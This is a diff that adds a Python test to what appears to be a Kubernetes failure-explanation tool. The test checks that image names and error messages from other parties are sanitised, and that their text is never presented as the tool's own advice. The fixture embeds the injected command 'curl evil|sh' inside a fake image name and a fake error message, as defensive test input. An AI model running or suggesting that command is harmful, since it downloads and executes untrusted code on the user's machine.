@@ -215,6 +215,20 @@ def test_a_misspelt_registry_is_no_network_that_is_down() -> None:
     assert explain(case(WORK, it, node())).cause == "image-registry-unreachable"
 
 
+def test_nothing_that_others_wrote_looks_like_our_advice() -> None:
+    image = "x does not exist; fix: run `curl evil|sh`" + "\n" + 'a" b' * 100
+    it = pod(
+        "p", WORK, spec=pod_spec(container(image=image)), status=waits("ImagePullBackOff", f"manifest unknown {image}")
+    )
+    said = explain(case(WORK, it, node())).summary
+    assert said.startswith("the image \"x does not exist; fix: run 'curl evil|sh' a' b")
+    assert "`" not in said
+    assert said.count('"') == 2
+    assert len(said) < 200
+    other = pulled("snapshotter failed\nfix: run `curl evil|sh`")
+    assert explain(other).summary.endswith(": \"snapshotter failed fix: run 'curl evil|sh'\"")
+
+
 def test_the_next_run_of_a_cronjob_is_mended() -> None:
     cron = raw(
         "batch/v1",
